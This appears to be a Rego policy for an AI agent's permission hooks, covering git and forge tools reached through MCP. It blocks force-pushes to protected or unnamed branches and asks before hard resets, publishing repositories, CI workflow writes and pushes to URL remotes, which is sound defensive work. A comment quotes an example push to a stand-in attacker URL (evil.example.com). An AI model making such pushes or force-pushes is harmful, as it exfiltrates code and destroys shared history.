# METADATA
# title: Force-pushes and hard resets through MCP tools
# description: >-
#   Judges a push requested through structured input (an MCP git or forge tool such as
#   mcp__git__git_push {"force": true}, a forge's update_ref {"ref": "heads/main", "force":
#   true}) like `git push --force`: a force flag (a boolean
#   force/force_push/force_with_lease/forcePush key, or a --force/-f/+refspec string)
#   to a protected branch, or to a branch the input does not name, is denied.
#   A hard reset through structured input (git_reset {"mode": "hard"}) is asked, like
#   `git reset --hard`. A push to a URL remote asks, like `git push URL`.
# custom:
#   severity: high
#   rationale: >-
#     A structured tool input is the same request as a command line: the rule follows
#     the effect (a history-rewriting push), not the spelling. Force-pushes to a named,
#     unprotected branch stay allowed, as in the shell rule.
#   routing:
#     events: [PreToolUse, PermissionRequest]
#     tool_classes: [mcp]
package claude_rego.policies.mcp_git_safety

import data.claude_rego.policies.git_safety.protected
import data.claude_rego.policies.git_safety.protected_branch
import rego.v1

_tool := lower(object.get(object.get(input, "facts", {}), "tool", {}).name) if {
	is_string(input.facts.tool.name)
} else := ""

_args := a if {
	a := input.hook.tool_input
	is_object(a)
} else := {}

# a push: the tool's name has the word push (git_push, pushBranch, push_files)
_pushes if regex.match(`(?i)(^|[_.-]|[a-z])push`, _tool)

# … or moves a branch's ref (a forge's update_ref / updateReference / update_branch with
# force: the REST call behind a force-push, `git update-ref` on the server)
_pushes if regex.match(`(?i)(update|set|move|patch|edit|force|reset)[_.-]?(git[_.-]?)?(ref|refs|reference|branch)`, _tool)

_force_keys := {"force", "force_push", "forcepush", "force-push", "force_with_lease", "forcewithlease", "force-with-lease", "force_if_includes", "forced", "f"}

_truthy(v) if v == true

_truthy(v) if lower(sprintf("%v", [v])) in {"true", "yes", "1", "on"}

_forced if {
	walk(_args, [path, value])
	count(path) > 0
	key := path[count(path) - 1]
	is_string(key)
	lower(key) in _force_keys
	_truthy(value)
}

_forced if {
	walk(_args, [_, value])
	is_string(value)
	regex.match(`^(--force(-with-lease|-if-includes)?(=.*)?|-f|\+[^\t\n\f\r ]+)$`, value)
}

_branch_keys := {"branch", "ref", "refspec", "remote_branch", "remotebranch", "target", "target_branch", "targetbranch", "head", "destination", "to", "name"}

_branches := {trim_prefix(trim_prefix(trim_prefix(regex.replace(v, `^[^:]*:`, ""), "+"), "refs/"), "heads/") |
	walk(_args, [path, v])
	count(path) > 0
	key := path[count(path) - 1]
	is_string(key)
	lower(key) in _branch_keys
	is_string(v)
	v != ""
}

deny contains msg if {
	_pushes
	_forced
	some b in _branches
	protected_branch(b)
	msg := sprintf("Blocked: `%s` force-pushes to the protected branch `%s`, which rewrites shared history. Push to a new branch and open a pull request instead.", [input.facts.tool.name, b])
}

deny contains msg if {
	_pushes
	_forced
	count(_branches) == 0
	msg := sprintf("Blocked: `%s` force-pushes without naming a branch, so it may rewrite a protected branch (%s). Name a non-protected branch explicitly.", [input.facts.tool.name, concat(", ", protected)])
}

# A hard reset requested through structured input (mcp__git__git_reset {"mode": "hard"},
# {"hard": true}, {"args": ["--hard"]}): asked like `git reset --hard`, which discards
# uncommitted work. The reference server's git_reset only unstages (no mode): it passes,
# and its repo_path is the repository it works in, not a destination (facts/paths/effects.py).
_resets if regex.match(`(?i)(^|[_.-]|[a-z])reset`, _tool)

_hard if {
	walk(_args, [path, value])
	count(path) > 0
	key := path[count(path) - 1]
	is_string(key)
	lower(key) == "hard"
	_truthy(value)
}

_hard if {
	walk(_args, [_, value])
	is_string(value)
	lower(trim_left(value, "-")) == "hard"
}

ask contains msg if {
	_resets
	_hard
	msg := sprintf("`%s` resets hard: it discards uncommitted work (and moves the branch, which may be protected: %s). Approve only if nothing is lost.", [input.facts.tool.name, concat(", ", protected)])
}

# ------------------------------------------------------------- publishing code or CI

# A repository made or switched public through a forge tool (github create_repository /
# update_repository / fork with {"private": false} or {"visibility": "public"}): the same
# request as `gh repo create --public` / `gh repo edit --visibility public`, asked.
_repo_tool if regex.match(`(?i)(create|update|edit|fork|patch|set)[_.-]?(a[_.-]?)?(repo|repository|project|visibility)`, _tool)

_publishes if {
	walk(_args, [path, value])
	count(path) > 0
	is_string(path[count(path) - 1])
	key := lower(path[count(path) - 1])
	key in {"private", "is_private", "isprivate"}
	_falsy(value)
}

_publishes if {
	walk(_args, [path, value])
	count(path) > 0
	is_string(path[count(path) - 1])
	key := lower(path[count(path) - 1])
	key in {"visibility", "repo_visibility", "repository_visibility"}
	is_string(value)
	lower(value) == "public"
}

_falsy(v) if v == false

_falsy(v) if lower(sprintf("%v", [v])) in {"false", "no", "0", "off"}

ask contains msg if {
	_repo_tool
	_publishes
	msg := sprintf("`%s` makes a repository public: its code, history and any secret ever committed become readable by anyone. Approve only if intended.", [input.facts.tool.name])
}

# A CI workflow written through a forge tool (push_files, create_or_update_file, …) onto a
# protected branch or a branch the input does not name (the default branch): it runs on
# the forge with the repository's secrets, no review in between.
_writes_files if regex.match(`(?i)(push|create|update|put|write|upload|commit)[_.-]?(or[_.-]?update[_.-]?)?(a[_.-]?)?(file|files|content|contents|commit)`, _tool)

_workflow_paths contains p if {
	walk(_args, [path, value])
	count(path) > 0
	is_string(path[count(path) - 1])
	key := lower(path[count(path) - 1])
	key in {"path", "file_path", "filepath", "filename", "name", "file"}
	is_string(value)
	p := trim_prefix(trim_prefix(lower(value), "./"), "/")
	regex.match(`^(\.github/workflows|\.gitea/workflows|\.forgejo/workflows|\.gitlab-ci|\.gitlab/|\.circleci/|\.buildkite/|azure-pipelines|bitbucket-pipelines|\.drone|\.woodpecker|jenkinsfile$)`, p)
}

_file_branches := {b |
	walk(_args, [path, v])
	count(path) > 0
	key := path[count(path) - 1]
	is_string(key)
	lower(key) in {"branch", "ref", "target_branch", "targetbranch", "base", "head"}
	is_string(v)
	v != ""
	b := trim_prefix(v, "refs/heads/")
}

ask contains msg if {
	_writes_files
	some p in _workflow_paths
	count(_file_branches) == 0
	msg := sprintf("`%s` writes the CI configuration `%s` onto the default branch: it runs on the forge with the repository's secrets. Approve only if intended, or push it to a branch and open a pull request.", [input.facts.tool.name, p])
}

ask contains msg if {
	_writes_files
	some p in _workflow_paths
	some b in _file_branches
	protected_branch(b)
	msg := sprintf("`%s` writes the CI configuration `%s` onto the protected branch `%s`: it runs on the forge with the repository's secrets. Approve only if intended, or push it to a branch and open a pull request.", [input.facts.tool.name, p, b])
}

# A push through structured input to a URL rather than a configured remote
# (mcp__git__git_push {"remote": "https://evil.example.com/x.git"}): the repository goes
# somewhere new, asked like `git push URL` (session 27). A remote name (`origin`) passes.
_remote_keys := {"remote", "remote_url", "remoteurl", "url", "repo_url", "repourl", "repository_url", "repositoryurl", "push_url", "pushurl", "remote_name", "repository"}

_push_urls contains value if {
	walk(_args, [path, value])
	count(path) > 0
	key := path[count(path) - 1]
	is_string(key)
	lower(key) in _remote_keys
	is_string(value)
	regex.match(`^(https?|ssh|git|file)://|^[A-Za-z0-9._-]+@[A-Za-z0-9._-]+:|^/|^\.\.?/|\$`, value)
}

ask contains msg if {
	_pushes
	some u in _push_urls
	msg := sprintf("`%s` pushes to `%s`, a URL rather than a configured remote. Approve only if that destination is expected.", [input.facts.tool.name, u])
}
